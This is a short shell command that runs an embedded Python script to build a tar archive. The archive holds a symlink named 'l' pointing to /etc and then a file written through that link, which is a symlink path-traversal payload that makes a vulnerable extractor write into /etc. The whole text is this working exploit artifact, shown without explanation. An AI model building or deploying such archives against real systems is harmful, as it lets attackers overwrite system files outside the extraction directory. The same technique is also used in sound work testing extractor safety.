python3 - <<'P'
import tarfile,io
t=tarfile.open('a.tar','w')
i=tarfile.TarInfo('l'); i.type=tarfile.SYMTYPE; i.linkname='/etc'; t.addfile(i)
i=tarfile.TarInfo('l/file'); i.size=1; t.addfile(i,io.BytesIO(b'x'))
t.close()
P
